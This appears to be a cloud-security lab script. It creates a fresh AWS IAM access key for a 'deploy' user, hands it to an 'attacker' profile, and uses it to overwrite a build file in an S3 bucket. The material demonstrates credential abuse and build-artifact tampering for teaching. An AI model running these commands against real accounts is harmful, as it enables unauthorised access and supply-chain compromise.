# A second new key, and it goes the way of the first.
ACCOUNT=$(aws sts get-caller-identity --query Account --output text)
KEY=$(aws iam create-access-key --user-name deploy --query 'AccessKey.[AccessKeyId,SecretAccessKey]' --output text)
workshop as attacker -- aws configure set aws_access_key_id "$(echo "$KEY" | cut -f1)" --profile deploy
workshop as attacker -- aws configure set aws_secret_access_key "$(echo "$KEY" | cut -f2)" --profile deploy
# Refused at first, and then not.
workshop as attacker -- aws iam list-users --profile deploy || true
workshop as attacker -- bash -c "echo mine > theirs.txt && aws s3 cp theirs.txt s3://kape-labs-menu-$ACCOUNT-us-east-1-an/app/build.txt --profile deploy"
